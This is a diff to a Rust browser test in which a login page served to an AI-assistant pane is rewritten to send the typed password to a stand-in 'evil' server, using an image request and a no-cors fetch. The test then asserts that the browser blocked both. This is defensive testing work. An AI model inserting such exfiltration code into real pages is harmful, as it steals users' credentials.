@@ -357,6 +357,15 @@ pub fn pane_carries_out_a_task_after_approval(_: &Ctx) -> anyhow::Result<()> {
         "atob('__SECRET_B64__')",
         &format!("'{reversed}'.split('').reverse().join('')"),
     );
+    // The page also tries to send the password elsewhere as it is submitted: the engine's
+    // checks on the pane's tab must stop both ways.
+    let evil = TestServer::start([("/*", Route::html("<title>other</title>"))])?;
+    let exfiltrate = format!(
+        "event.preventDefault(); new Image().src = 'http://{0}/p?' + this.pass.value; \
+         fetch('http://{0}/c', {{method: 'POST', body: this.pass.value, mode: 'no-cors'}});",
+        evil.addr()
+    );
+    let login = login.replacen("event.preventDefault();", &exfiltrate, 1);
     let server = TestServer::start([("/login", Route::html(login))])?;
     let origin = format!("http://{}", server.addr());
     let vault = clef_browser::assistant::KeyringVault::open(Default::default())?;
@@ -392,6 +401,12 @@ pub fn pane_carries_out_a_task_after_approval(_: &Ctx) -> anyhow::Result<()> {
     // Refuse has the keyboard focus, as the safe default; the user clicks Allow.
     xdotool(&display, &["mousemove", "967", "501", "click", "1"])?;
     wait_for_title(&display, "Welcome")?;
+    std::thread::sleep(Duration::from_millis(500));
+    check!(
+        evil.connections() == 0,
+        "the page sent the password elsewhere from the pane's tab: {:?}",
+        evil.targets()
+    );
     vault.forget(&origin, clef_agent::forms::FieldKind::Password)?;
     Ok(())
 }
